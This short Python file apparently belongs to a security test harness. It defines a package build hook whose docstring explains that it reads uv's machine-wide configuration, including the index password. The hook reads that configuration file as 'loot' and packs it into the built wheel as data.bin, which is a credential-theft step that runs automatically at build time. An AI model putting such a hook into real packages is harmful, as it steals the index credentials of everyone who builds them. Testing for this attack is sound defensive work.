"""Reads the machine-wide configuration of uv, which names the index with its password.

It is readable by all, for all have to install from there.
"""

import pathlib

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-config"):
        loot["data.bin"] = pathlib.Path(kit.plant("config").path).read_bytes()
    return kit.wheel(wheel_directory, loot)
